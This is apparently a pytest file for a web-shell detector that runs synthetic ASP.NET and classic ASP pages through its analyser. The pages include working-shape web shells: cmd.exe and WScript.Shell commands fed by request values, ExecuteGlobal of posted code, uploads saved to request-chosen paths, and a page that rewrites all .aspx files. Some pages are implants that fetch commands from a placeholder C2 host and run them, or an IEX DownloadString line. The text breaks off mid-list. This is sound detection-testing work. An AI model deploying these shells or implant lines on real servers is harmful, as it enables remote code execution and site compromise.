"""Behaviour engine, session 12 (issue 14, A5).

Native calls (P/Invoke): a page that declares a Windows logon or impersonation function for a login form,
or a read-only fact of the machine (uptime, memory, disk space), is an ordinary intranet page; a page that
declares functions that run code, make memory executable, reach into another process or load a library is
not (``pinvoke``), nor is one that hands request input to any native function it declares
(``native-input``). A ``web.config`` handing ``*.htm`` to classic ASP (a legacy site) is not named alone.
The pages were written for these tests: nothing is compiled or run, the names and hosts are placeholders,
and none is a copy of a real shell.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest

from extriage.detections.webfiles import behaviour

CS = '<%@ Page Language="C#" %>\n<script runat="server">\n{}\n</script>\n'
VB = '<%@ Page Language="VB" %>\n<script runat="server">\n{}\n</script>\n'
_DLL = "[System.Runtime.InteropServices.DllImport({})]"

# (case, page, the sink it must give)
NATIVE_FOUND: list[tuple[str, str, str]] = [
    (
        "cs-alloc-by-entry-point-under-an-ordinary-name",
        CS.format(
            _DLL.format('"kernel32", EntryPoint = "VirtualAlloc"')
            + " static extern IntPtr GetTickCount(IntPtr a, uint s, uint t, uint p);"
        ),
        "pinvoke",
    ),
    (
        "cs-alloc-from-kernelbase",
        CS.format(_DLL.format('"kernelbase.dll"') + " static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);"),
        "pinvoke",
    ),
    (
        "cs-function-by-ordinal",  # a function named by its ordinal only
        CS.format(_DLL.format('"kernel32.dll", EntryPoint = "#12"') + " public static extern int Qz(string d);"),
        "pinvoke",
    ),
    (
        "cs-logon-beside-create-process",
        CS.format(
            _DLL.format('"advapi32.dll"') + " static extern bool LogonUser(string u, string d, string p, int t, int v, out IntPtr h);\n"
            + _DLL.format('"advapi32.dll", EntryPoint = "CreateProcessAsUser"')
            + " static extern bool Run(IntPtr h, string a, string c, IntPtr p, IntPtr t, bool i, uint f, IntPtr e, string d, IntPtr s, IntPtr o);"
        ),
        "pinvoke",
    ),
    (
        "vb-attribute-alloc-and-thread",
        VB.format(
            '<System.Runtime.InteropServices.DllImport("kernel32")> Shared Function VirtualAlloc(a As IntPtr, s As UIntPtr, t As UInteger, p As UInteger) As IntPtr\nEnd Function\n'
            '<System.Runtime.InteropServices.DllImport("kernel32")> Shared Function CreateThread(a As IntPtr, s As UIntPtr, f As IntPtr, p As IntPtr, c As UInteger, i As IntPtr) As IntPtr\nEnd Function'
        ),
        "pinvoke",
    ),
    (
        "vb-declare-winexec",
        VB.format(
            'Private Declare Function WinExec Lib "kernel32" (ByVal c As String, ByVal s As Integer) As Integer\n'
            'Sub Go(s As Object, e As EventArgs)\n  WinExec("example.exe", 0)\nEnd Sub'
        ),
        "pinvoke",
    ),
    (
        "vb-declare-alias-alloc",
        VB.format('Private Declare Function Tick Lib "kernel32" Alias "VirtualAlloc" (ByVal a As IntPtr, ByVal s As Integer, ByVal t As Integer, ByVal p As Integer) As IntPtr'),
        "pinvoke",
    ),
    (
        "cs-disk-space-of-a-request-path",
        CS.format(
            _DLL.format('"kernel32.dll", CharSet = System.Runtime.InteropServices.CharSet.Auto')
            + " static extern bool GetDiskFreeSpaceEx(string d, out ulong a, out ulong t, out ulong f);\n"
            'void Page_Load(object s, EventArgs e) { ulong a, t, f; GetDiskFreeSpaceEx(Request.QueryString["d"], out a, out t, out f); Free.Text = a.ToString(); }'
        ),
        "native-input",
    ),
    (
        "cs-user32-call-fed-by-a-form-value",
        CS.format(
            _DLL.format('"user32.dll"') + " static extern int MessageBeep(uint t);\n"
            'void Page_Load(object s, EventArgs e) { string k = Request.Form["k"]; MessageBeep(uint.Parse(k)); }'
        ),
        "native-input",
    ),
    (
        "vb-declare-drive-type-of-a-request-value",
        VB.format(
            'Private Declare Function GetDriveType Lib "kernel32" Alias "GetDriveTypeA" (ByVal d As String) As Integer\n'
            'Sub Page_Load(s As Object, e As EventArgs)\n  Kind.Text = GetDriveType(Request.Form("d")).ToString()\nEnd Sub'
        ),
        "native-input",
    ),
]

# (case, page, the sink it must not give): ordinary pages of the same shapes
NATIVE_ORDINARY: list[tuple[str, str, str]] = [
    (
        "cs-login-form-logon-and-impersonation",  # the impersonation sample's shape, fed by a login form
        CS.format(
            _DLL.format('"advapi32.dll", SetLastError = true')
            + " static extern bool LogonUser(string u, string d, string p, int t, int v, out IntPtr h);\n"
            + _DLL.format('"advapi32.dll"') + " static extern int DuplicateToken(IntPtr h, int l, ref IntPtr n);\n"
            + _DLL.format('"advapi32.dll"') + " static extern bool RevertToSelf();\n"
            + _DLL.format('"kernel32.dll"') + " static extern bool CloseHandle(IntPtr h);\n"
            "void Login_Click(object s, EventArgs e) {\n  IntPtr h, d = IntPtr.Zero;\n"
            '  if (RevertToSelf() && LogonUser(User.Text, Request.Form["domain"], Pass.Text, 2, 0, out h)) {\n'
            "    DuplicateToken(h, 2, ref d);\n"
            "    using (new System.Security.Principal.WindowsIdentity(d).Impersonate()) { Ok.Text = User.Text; }\n"
            "    CloseHandle(h); CloseHandle(d);\n  }\n}"
        )
        + '<asp:TextBox id="User" runat="server" /><asp:TextBox id="Pass" TextMode="Password" runat="server" />',
        "pinvoke",
    ),
    (
        "vb-declare-logon-from-a-form",
        VB.format(
            'Private Declare Auto Function LogonUser Lib "advapi32.dll" (ByVal u As String, ByVal d As String, ByVal p As String, ByVal t As Integer, ByVal v As Integer, ByRef h As IntPtr) As Boolean\n'
            'Sub Go(s As Object, e As EventArgs)\n  Dim h As IntPtr\n  Ok.Text = LogonUser(User.Text, "CORP", Pass.Text, 3, 0, h).ToString()\nEnd Sub'
        ),
        "pinvoke",
    ),
    (
        "cs-uptime-and-memory",
        CS.format(
            _DLL.format('"kernel32"') + " static extern uint GetTickCount();\n"
            + _DLL.format('"kernel32", EntryPoint = "GetTickCount64"') + " static extern ulong Ticks();\n"
            "void Page_Load(object s, EventArgs e) { Up.Text = (GetTickCount() / 1000).ToString(); }"
        ),
        "pinvoke",
    ),
    (
        "cs-disk-space-of-a-fixed-drive",
        CS.format(
            _DLL.format('"kernel32.dll"') + " static extern bool GetDiskFreeSpaceEx(string d, out ulong a, out ulong t, out ulong f);\n"
            'void Page_Load(object s, EventArgs e) { ulong a, t, f; GetDiskFreeSpaceEx("C:\\\\", out a, out t, out f); Free.Text = a.ToString(); }'
        ),
        "native-input",
    ),
    (
        "cs-logon-fed-by-request-values",  # a logon is handed a user name and password by design
        CS.format(
            _DLL.format('"advapi32.dll"') + " static extern bool LogonUser(string u, string d, string p, int t, int v, out IntPtr h);\n"
            'void Page_Load(object s, EventArgs e) { IntPtr h; Ok.Text = LogonUser(Request.Form["u"], "CORP", Request.Form["p"], 3, 0, out h).ToString(); }'
        ),
        "native-input",
    ),
]


def _sinks(page: str, ext: str = ".aspx") -> set[str]:
    return {h["sink"] for h in behaviour.analyse(page.encode(), ext).hits}


@pytest.mark.parametrize(("case", "page", "sink"), NATIVE_FOUND, ids=[c[0] for c in NATIVE_FOUND])
def test_native_code_and_request_fed_native_calls_are_named(case: str, page: str, sink: str) -> None:
    assert sink in _sinks(page)


@pytest.mark.parametrize(("case", "page", "sink"), NATIVE_ORDINARY, ids=[c[0] for c in NATIVE_ORDINARY])
def test_logon_and_machine_facts_declared_by_ordinary_pages_stay_silent(case: str, page: str, sink: str) -> None:
    sinks = _sinks(page)
    assert sink not in sinks and not sinks & {"pinvoke", "native-input"}, sinks


def test_a_request_fed_native_call_names_the_call_and_the_source() -> None:
    page = next(p for c, p, _ in NATIVE_FOUND if c == "cs-disk-space-of-a-request-path")
    hit = next(h for h in behaviour.analyse(page.encode(), ".aspx").hits if h["sink"] == "native-input")
    assert "GetDiskFreeSpaceEx(Request" in hit["raw"] and hit["source"] == "request value"


_CONFIG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<configuration>\n  <system.webServer>\n    <handlers>\n'
    "      {}\n    </handlers>\n  </system.webServer>\n</configuration>\n"
)
CONFIG_FOUND = [
    ("htm-to-page-handler", '<add name="h" path="*.htm" verb="*" type="System.Web.UI.PageHandlerFactory" />'),
    (
        "html-to-aspnet-isapi",
        '<add name="h" path="*.html" verb="*" modules="IsapiModule" scriptProcessor="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\aspnet_isapi.dll" />',
    ),
    (
        "txt-to-classic-asp",
        '<add name="t" path="*.txt" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" />',
    ),
]
CONFIG_ORDINARY = [
    (
        "html-to-classic-asp",
        '<add name="HtmlAsAsp" path="*.html" verb="GET,HEAD,POST" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />',
    ),
]


@pytest.mark.parametrize(("case", "line"), CONFIG_FOUND, ids=[c[0] for c in CONFIG_FOUND])
def test_static_extensions_run_as_code_are_named(case: str, line: str) -> None:
    assert "config-handler" in _sinks(_CONFIG.format(line), ".config")


@pytest.mark.parametrize(("case", "line"), CONFIG_ORDINARY, ids=[c[0] for c in CONFIG_ORDINARY])
def test_htm_pages_of_a_classic_asp_site_are_not_named(case: str, line: str) -> None:
    assert "config-handler" not in _sinks(_CONFIG.format(line), ".config")


# --- pages behind binary bytes: ASP.NET reads the file as text, whatever its first bytes --------------------
_SHELL = (
    '<%@ Page Language="C#" %>\n<% string c = Request.Form["c"];\n'
    '   System.Diagnostics.Process.Start("cmd.exe", "/c " + c); %>\n'
)
_GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
_MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(range(256)) * 4
#: A binary's bytes that hold a chance "<%" ... "%>" (with line breaks) before the page.
_CHANCE = b"\x89PNG\r\n\x1a\n\x00\x00<%\x03\x9c\n\x10\xff\n%>\x00\x07\n" + bytes(range(256))
PREFIXES = [("gif89a", _GIF), ("mz", _MZ), ("binary-with-a-chance-code-block", _CHANCE)]


@pytest.mark.parametrize(("case", "prefix"), PREFIXES, ids=[c[0] for c in PREFIXES])
def test_a_page_behind_binary_bytes_is_analysed(case: str, prefix: bytes, tmp_path: Path) -> None:
    data = prefix + _SHELL.encode()
    result = behaviour.analyse(data, ".aspx")
    assert result.problem is None
    hit = next(h for h in result.hits if h["sink"] == "process")
    lines = data.split(b"\n")
    assert hit["line"] == next(i for i, x in enumerate(lines) if b"Process.Start" in x) + 1
    assert hit["source_line"] == next(i for i, x in enumerate(lines) if b"Request.Form" in x) + 1
    # and through the scan's content check, which names no page as unchecked
    page = tmp_path / "logo.aspx"
    page.write_bytes(data)
    out = _examine(page)
    assert out.skipped == []
    assert "process" in {h.get("sink") for h in out.data["hits"]}


@pytest.mark.parametrize(
    "data",
    [
        _GIF * 2000,
        _MZ * 2000,
        bytes(range(256)) * 4000,
        (b"\x00<%\x01" + bytes(range(1, 256)) + b"%>\n") * 4000,  # many chance code blocks
        b"<%\x01\x02" + bytes(range(256)) * 4000,  # one never closed
    ],
    ids=["gif", "mz", "bytes", "chance-blocks", "unclosed-block"],
)
def test_a_binary_named_aspx_is_silent_and_fully_checked(data: bytes) -> None:
    result = behaviour.analyse(data, ".aspx")
    assert result.hits == [] and result.problem is None, (result.hits, result.problem)


def test_control_characters_in_strings_and_comments_keep_the_code() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<% /* \x01\x02 */ string c = Request.Form["c"]; string pad = "\x03\x04";\n'
        '// \x05\n System.Diagnostics.Process.Start("cmd.exe", "/c " + c); %>'
    )
    assert "process" in _sinks(page)
    vb = (
        '<%@ Page Language="VB" %>\n<% Dim c As String = Request.Form("c") \' \x01\x02\n'
        ' Dim pad As String = "\x03"\n System.Diagnostics.Process.Start("cmd.exe", "/c " & c) %>'
    )
    assert "process" in _sinks(vb)


def _examine(path: Path) -> Any:
    from extriage.detections.webfiles import content
    from extriage.detections.webfiles.rules import build_ruleset

    params = content.ContentParams(build_ruleset([]).serialized, 64 << 20, 30.0)
    t = content.Target(str(path), str(path).lower(), str(path), path.name, path.stat().st_size, None)
    return content.examine(t, content.DEEP, params)


# --- big pages of bytes that are not UTF-8 finish well inside the per-file limit ----------------------------
MB = 1 << 20


def test_decode_is_the_per_byte_reference() -> None:
    import importlib
    import random

    ex = importlib.import_module("extriage.detections.webfiles.behaviour.extract")

    pieces = [b"a", b"\n", b"\xc3\xa9", b"\xe4\xb8\xad", b"\xf0\x9f\x98\x80", b"\xff", b"\x80", b"\xc3"]
    pieces += [b"\xed\xa0\x80", b"\xdc", b"\x00", "\U0001dc80".encode(), "\U0010dcff".encode(), "\u05dc".encode()]
    rng = random.Random(12)
    old = ex._PIECE
    try:
        for piece in (old, 7):
            ex._PIECE = piece
            for _ in range(2000):
                data = b"".join(rng.choice(pieces) for _ in range(rng.randint(0, 60)))
                assert ex.decode(data) == data.decode("utf-8", errors="extriage-letters"), data
    finally:
        ex._PIECE = old


@pytest.mark.parametrize(
    "data",
    [
        b"\xc3\x28\xa0\xa1" * (5 * MB),  # invalid UTF-8, no code
        bytes(range(256)) * (80 * 1024),  # 20 MB of bytes
        b"GIF89a" + bytes(range(256)) * (80 * 1024) + _SHELL.encode(),  # the page behind them
        ("<p>caf\xe9 na\xefve</p>\n" * MB).encode("latin-1") + _SHELL.encode(),  # a page in its code page
    ],
    ids=["invalid-utf8", "bytes", "page-behind-bytes", "latin-1-page"],
)
def test_twenty_megabytes_not_utf8_finish_well_inside_the_limit(data: bytes) -> None:
    # (a wide margin: 0.4-0.8 s on a quiet machine, 18-36 s before - the decoding alone; a budget no load exhausts)
    t0 = time.thread_time()
    result = behaviour.analyse(data, ".aspx", budget=120.0)
    elapsed = time.thread_time() - t0
    assert result.problem is None, result.problem
    assert ("process" in {h["sink"] for h in result.hits}) == data.endswith(b"%>\n")
    assert elapsed < 10.0


# --- X20's request (20:30): machine keys only compared with a literal, or assigned, are not read out ----------
from .test_unseen20_new import KEY_HANDED_OVER, KEY_ORDINARY  # noqa: E402

_PROVIDER_CHECK = (  # the membership provider sample's shape, compiled from App_Code (X20's repro)
    "using System.Configuration.Provider;\nusing System.Web.Configuration;\npublic class KeyCheck {\n"
    "    public static void Require() {\n"
    '        var cfg = WebConfigurationManager.OpenWebConfiguration("~");\n'
    '        var mk = (MachineKeySection)cfg.GetSection("system.web/machineKey");\n'
    '        if (mk.ValidationKey.Contains("AutoGenerate") || mk.DecryptionKey.Contains("AutoGenerate"))\n'
    '            throw new ProviderException("Encrypted passwords are not supported with auto-generated keys.");\n'
    "    }\n}\n"
)


@pytest.mark.parametrize(("case", "ext", "page"), KEY_HANDED_OVER, ids=[c[0] for c in KEY_HANDED_OVER])
def test_machine_keys_handed_over_after_a_check_are_named(case: str, ext: str, page: str) -> None:
    assert "machine-keys" in _sinks(page, ext)


@pytest.mark.parametrize(
    ("case", "ext", "page"),
    [*KEY_ORDINARY, ("cs-provider-requires-fixed-keys", ".cs", _PROVIDER_CHECK)],
    ids=[c[0] for c in KEY_ORDINARY] + ["cs-provider-requires-fixed-keys"],
)
def test_machine_keys_only_compared_or_assigned_are_not_named(case: str, ext: str, page: str) -> None:
    assert "machine-keys" not in _sinks(page, ext)


# --- X19's ask 4 (session 11): a command taken from what a server answers the page (a polling implant) ----------
from .test_unseen19_notes import POLLING_IMPLANT, POLLING_IMPLANT_ORDINARY  # noqa: E402

FETCHED_RUN: list[tuple[str, str, str, str]] = [
    *((c, e, p, "process") for c, e, p in POLLING_IMPLANT),
    (
        "cs-httpclient-answer-to-powershell",
        ".aspx",
        '<%@ Page Language="C#" Async="true" %>\n<script runat="server">\n'
        "async void Page_Load(object s, EventArgs e) {\n"
        "  var h = new System.Net.Http.HttpClient();\n"
        '  string job = await h.GetStringAsync("https://c2.example.invalid/job");\n'
        '  var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript(job); ps.Invoke();\n}\n</script>',
        "powershell",
    ),
    (
        "js-eval-of-a-fetched-answer",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        'var t = new System.Net.WebClient().DownloadString("http://192.0.2.10/t");\n'
        'eval(t, "unsafe");\n%>',
        "eval",
    ),
]
FETCHED_QUIET: list[tuple[str, str, str, str]] = [
    *((c, e, p, "process") for c, e, p in POLLING_IMPLANT_ORDINARY),
    (
        "cs-fixed-powershell-download-command",  # the download is the command's own text, not an answer
        ".aspx",
        CS.format(
            'void Go_Click(object s, EventArgs e) { System.Diagnostics.Process.Start("powershell.exe", '
            "\"-c IEX(New-Object Net.WebClient).DownloadString('http://build01/setup.ps1')\"); }"
        ),
        "process",
    ),
    (
        "cs-version-check-shown",
        ".aspx",
        CS.format(
            'void Page_Load(object s, EventArgs e) { string v = new System.Net.WebClient().DownloadString("https://updates.example.invalid/v");\n'
            '  Latest.Text = v; if (v != Version.Text) { System.Diagnostics.Process.Start("notepad.exe"); } }'
        ),
        "process",
    ),
]


@pytest.mark.parametrize(("case", "ext", "page", "sink"), FETCHED_RUN, ids=[c[0] for c in FETCHED_RUN])
def test_a_command_a_server_answers_is_named_where_it_runs(case: str, ext: str, page: str, sink: str) -> None:
    hits = [h for h in behaviour.analyse(page.encode(), ext).hits if h["sink"] == sink]
    assert hits and hits[0]["source"].startswith("response to an outbound HTTP request"), hits


@pytest.mark.parametrize(("case", "ext", "page", "sink"), FETCHED_QUIET, ids=[c[0] for c in FETCHED_QUIET])
def test_pages_that_show_or_compare_what_they_fetch_stay_silent(case: str, ext: str, page: str, sink: str) -> None:
    assert sink not in _sinks(page, ext)


# --- X20's request (20:34): memory-shell injection from a page (pipeline hooks) --------------------------------
from .test_unseen20_new import MEMSHELL_INJECTORS, MEMSHELL_ORDINARY  # noqa: E402


@pytest.mark.parametrize(("case", "ext", "page"), MEMSHELL_INJECTORS, ids=[c[0] for c in MEMSHELL_INJECTORS])
def test_a_page_hooking_code_into_the_pipeline_is_named(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) & {"runtime-registration", "virtual-path-provider"}


@pytest.mark.parametrize(("case", "ext", "page"), MEMSHELL_ORDINARY, ids=[c[0] for c in MEMSHELL_ORDINARY])
def test_start_up_registration_and_page_routes_are_not_named(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext) & {"runtime-registration", "virtual-path-provider"}


def test_a_page_route_added_by_an_admin_page_is_no_hook_but_a_route_to_code_is() -> None:
    page = next(p for c, _e, p in MEMSHELL_ORDINARY if c == "admin-page-adds-a-page-route")
    hooked = page.replace('new PageRouteHandler("~/Report.aspx")', "new Handler()")
    assert "runtime-registration" in _sinks(hooked, ".aspx")


# --- the fixpoint reads again only what a new taint can change (big code files within the budget) -------------
_BACKWARDS = (  # each value is assigned from one written after it: one more round per step
    '<%@ Page Language="C#" %>\n<script runat="server">\n'
    "string e, d, c, b, a;\n"
    "void Run() { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + e); }\n"
    "void Step4() { e = Wrap(d); }\nvoid Step3() { d = c; }\nvoid Step2() { Fill(b, out c); }\n"
    "void Step1() { b = a; }\nstring Wrap(string v) { return v; }\n"
    "void Fill(string v, out string o) { o = v; }\n"
    'void Page_Load(object s, EventArgs ev) { a = Request.Form["c"]; Step1(); Step2(); Step3(); Step4(); Run(); }\n'
    "</script>"
)


def test_taint_written_backwards_still_reaches_its_sink() -> None:
    hit = next(h for h in behaviour.analyse(_BACKWARDS.encode(), ".aspx").hits if h["sink"] == "process")
    assert hit["source"] == "request value"


def test_a_name_changed_late_in_a_round_is_read_again() -> None:
    # `x` is only partly the request's once `x = "C:\\dir\\" + x` is read (a held taint changed, not added)
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\nstring x;\n'
        "void Use() { Response.WriteFile(x); }\n"
        'void Page_Load(object s, EventArgs e) { x = Request.Form["f"]; x = "C:\\\\dir\\\\" + x; Use(); }\n</script>'
    )
    assert "file-read" not in _sinks(page)
    assert "file-read" in _sinks(page.replace('x = "C:\\\\dir\\\\" + x; ', ""))


# --- X22's request (20:45): classic ASP (.asp .asa .cer .cdx) is analysed, as VBScript unless it names JScript ----
CLASSIC_FOUND: list[tuple[str, str, str, str]] = [
    (
        "one-line-exec-of-a-request-command",
        ".asp",
        '<%response.write server.createobject("wscript.shell").exec("cmd.exe /c "&request("c")).stdout.readall%>',
        "shell-object",
    ),
    (
        "run-without-brackets",
        ".asp",
        '<%\nDim c: c = Request.Form("c")\nSet sh = Server.CreateObject("WScript.Shell")\nsh.Run "cmd /c " & c, 0, True\n%>',
        "shell-object",
    ),
    (
        "if-then-exec-on-one-line",
        ".cer",
        '<%\nSet sh = CreateObject("WScript.Shell")\nIf Request("c") <> "" Then Set o = sh.Exec(Request("c"))\n%>',
        "shell-object",
    ),
    (
        "encoded-powershell-run",
        ".asp",
        '<%\nSet s = CreateObject("WScript.Shell")\ns.run "cmd.exe /c powershell.exe -noprofile -encodedCommand '
        + "QQBCAEMARABFAEYARwBIAEkASgBLAEwATQBOAE8AUABRAFIAUwBUAFUAVgBXAFgAWQBaAA=="
        + '"\n%>',
        "encoded-powershell",
    ),
    (
        "file-manager-delete",
        ".asp",
        '<%\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nfs.DeleteFile Request("file")\nResponse.Write "done"\n%>',
        "com-file-write",
    ),
    (
        "upload-saved-where-the-request-says",
        ".asp",
        '<%\nb = Request.BinaryRead(Request.TotalBytes)\nSet st = Server.CreateObject("ADODB.Stream")\n'
        'st.Type = 1: st.Open: st.Write b\nst.SaveToFile Request.QueryString("p"), 2\n%>',
        "com-file-write",
    ),
    ("execute-global-of-a-request-value", ".asp", '<%\nExecuteGlobal Request.Form("code")\n%>', "eval"),
    (
        "jscript-page",
        ".asp",
        '<%@ Language="JScript" %>\n<%\nvar sh = Server.CreateObject("WScript.Shell");\n'
        'Response.Write(sh.Exec("cmd /c " + Request("c")).StdOut.ReadAll());\n%>',
        "shell-object",
    ),
    (
        "vbscript-server-script-block",
        ".asp",
        '<script language="VBScript" runat="server">\nSub Go()\n  Set sh = CreateObject("WScript.Shell")\n'
        '  sh.Run Request("c"), 0\nEnd Sub\n</script>\n<% Go %>',
        "shell-object",
    ),
]
CLASSIC_ORDINARY: list[tuple[str, str, str]] = [
    (
        "hit-counter",
        ".asp",
        '<%\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\np = Server.MapPath("count.txt")\n'
        "Set f = fs.OpenTextFile(p, 1)\nn = CLng(f.ReadLine) + 1\nf.Close\n"
        "Set f = fs.CreateTextFile(p, True)\nf.WriteLine n\nf.Close\nResponse.Write n\n%>",
    ),
    (
        "guestbook-appends-a-message",
        ".asp",
        '<%\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\n'
        'Set f = fs.OpenTextFile(Server.MapPath("gb.txt"), 8, True)\nf.WriteLine Server.HTMLEncode(Request.Form("msg"))\nf.Close\n%>',
    ),
    (
        "environment-and-event-log",
        ".asp",
        '<%\nSet sh = Server.CreateObject("WScript.Shell")\nResponse.Write sh.ExpandEnvironmentStrings("%COMPUTERNAME%")\n'
        'sh.LogEvent 4, "Page viewed by " & Request.ServerVariables("REMOTE_ADDR")\n%>',
    ),
    (
        "fixed-diagnostic-command",
        ".asp",
        '<%\nSet sh = Server.CreateObject("WScript.Shell")\nrc = sh.Run("cmd /c netstat -ano > NUL", 0, True)\n'
        'If rc = 0 Then Response.Write "listening"\n%>',
    ),
    (
        "upload-to-a-fixed-folder",
        ".asp",
        '<%\nb = Request.BinaryRead(Request.TotalBytes)\nSet st = Server.CreateObject("ADODB.Stream")\n'
        'st.Type = 1: st.Open: st.Write b\nst.SaveToFile Server.MapPath("uploads/") & "\\" & Request.QueryString("name") & ".jpg", 2\n%>',
    ),
    ("form-echo", ".asp", '<%\nResponse.Write "Hello " & Server.HTMLEncode(Request.Form("name"))\n%>'),
    (
        "global-asa-sets-up",
        ".asa",
        '<script language="VBScript" runat="server">\nSub Application_OnStart\n'
        '  Set Application("fs") = Server.CreateObject("Scripting.FileSystemObject")\nEnd Sub\n</script>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page", "sink"), CLASSIC_FOUND, ids=[c[0] for c in CLASSIC_FOUND])
def test_classic_asp_shells_are_named(case: str, ext: str, page: str, sink: str) -> None:
    assert sink in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), CLASSIC_ORDINARY, ids=[c[0] for c in CLASSIC_ORDINARY])
def test_ordinary_classic_asp_pages_stay_silent(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) == set()


def test_vbscript_call_statements_read_as_calls() -> None:
    import importlib

    norm = importlib.import_module("extriage.detections.webfiles.behaviour.normalise")
    cases = {
        'sh.Run "c" & x, 0': 'sh.Run("c" & x, 0)',
        'st.Type = 1: st.Open: st.Write b': "st.Type = 1: st.Open: st.Write(b)",
        'If x <> "" Then sh.Run x, 0': 'If x <> "" Then sh.Run(x, 0)',
        'Response.Write "a: b.c d"': 'Response.Write("a: b.c d")',
        "x.y = 5": "x.y = 5",
        "AddHandler btn.Click, AddressOf H": "AddHandler btn.Click, AddressOf H",
        "If a.b Then": "If a.b Then",
        "Dim t As System.Text.StringBuilder": "Dim t As System.Text.StringBuilder",
        "Imports System.IO": "Imports System.IO",
    }
    for line, expected in cases.items():
        assert norm._vb_bare_calls(line) == expected, line


# --- B6's request (20:50): a local's taint does not become a same-named local's of another method -------------
_NOTE_BOX = (  # B6's reproduction (dasBlog's entry editor shape): the posted title never reaches the folder
    "using System; using System.IO; using System.Web.UI;\n"
    "public partial class EditNoteBox : UserControl {\n"
    '  public Note CurrentNote { get { return (Note)ViewState["Note"]; } set { ViewState["Note"] = value; } }\n'
    "  protected void Page_Load(object sender, EventArgs e) {\n"
    "    if (!IsPostBack) { Note note = NoteStore.Load(NoteStore.SelectedId); if (note != null) { CurrentNote = note; } } }\n"
    "  protected void save_Click(object sender, EventArgs e) {\n"
    "    Note note; if (CurrentNote == null) { note = new Note(); } else { note = CurrentNote; }\n"
    "    note.Title = noteTitle.Text; NoteStore.Save(note); }\n"
    "  private void RemoveAttachmentFolder() {\n"
    "    if (CurrentNote != null) { DirectoryInfo folder = new DirectoryInfo(NoteStore.MapPath(Path.Combine(NoteStore.BinariesDir, CurrentNote.NoteId)));\n"
    "      if (folder.Exists) { folder.Delete(true); } } }\n"
    "}\n"
)


def test_a_local_of_one_method_does_not_taint_a_same_named_local_of_another() -> None:
    assert _sinks(_NOTE_BOX, ".cs") == set()
    parsed = _NOTE_BOX.replace("note.Title = noteTitle.Text;", "note = NoteStore.Parse(noteTitle.Text);")
    assert _sinks(parsed, ".cs") == set()


def test_a_field_still_carries_request_input_between_methods() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\nstring cmd;\n'
        'void Read() { string c = Request.Form["c"]; cmd = c; }\n'
        'void Run() { string c = "/c " + cmd; System.Diagnostics.Process.Start("cmd.exe", c); }\n'
        "void Page_Load(object s, EventArgs e) { Read(); Run(); }\n</script>"
    )
    hit = next(h for h in behaviour.analyse(page.encode(), ".aspx").hits if h["sink"] == "process")
    assert "c" in hit["via"] and "cmd" in hit["via"]


def test_vb_locals_are_scoped_to_their_method_too() -> None:
    page = (
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Save()\n  Dim p As String = Request.Form(\"p\")\n  Session(\"p\") = p\nEnd Sub\n"
        'Sub Clean()\n  Dim p As String = Server.MapPath("~/App_Data/tmp")\n  System.IO.Directory.Delete(p, True)\nEnd Sub\n'
        "</script>"
    )
    assert "file-write" not in _sinks(page)
    assert "file-write" in _sinks(page.replace('Dim p As String = Server.MapPath("~/App_Data/tmp")', "Dim q As String = 1"))


def test_request_text_put_into_listed_files_content_is_named() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Go(object s, EventArgs e) {\n"
        '  foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/"), "*.aspx")) {\n'
        "    string text = System.IO.File.ReadAllText(f);\n"
        "    text = text.Replace(\"</body>\", Find.Text);\n"
        "    System.IO.File.WriteAllText(f, text);\n  }\n}\n</script>"
    )
    assert "site-infector" in _sinks(page)


# --- the requesters' own tables (X22: test_unseen22_kinds, B6: test_benign20), as they landed ------------------
from .test_benign20 import SAME_NAME_LOCALS  # noqa: E402
from .test_unseen22_kinds import (  # noqa: E402
    CLASSIC_ASP_ORDINARY,
    CLASSIC_ASP_SHELLS,
    CLASSIC_LAUNCHERS,
    CLASSIC_LAUNCHERS_ORDINARY,
)

_REQUESTED_FOUND = [*CLASSIC_ASP_SHELLS, *CLASSIC_LAUNCHERS]
_REQUESTED_QUIET = [*CLASSIC_ASP_ORDINARY, *CLASSIC_LAUNCHERS_ORDINARY, *SAME_NAME_LOCALS]


@pytest.mark.parametrize(("case", "ext", "page"), _REQUESTED_FOUND, ids=[c[0] for c in _REQUESTED_FOUND])
def test_the_requesters_shells_are_named_by_behaviour(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) & {"shell-object", "process", "encoded-powershell", "eval", "com-file-write"}


@pytest.mark.parametrize(("case", "ext", "page"), _REQUESTED_QUIET, ids=[c[0] for c in _REQUESTED_QUIET])
def test_the_requesters_ordinary_pages_stay_silent(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) == set()


# --- a condition in front of a statement is no input of it ----------------------------------------------------
_CONDITIONED = [
    (
        "cs-if",
        CS.format(
            'void Page_Load(object s, EventArgs e) { if (Request["x"] == "1") System.Diagnostics.Process.Start("notepad.exe"); }'
        ),
        'System.Diagnostics.Process.Start("notepad.exe")',
        'System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"])',
    ),
    (
        "cs-else-if",
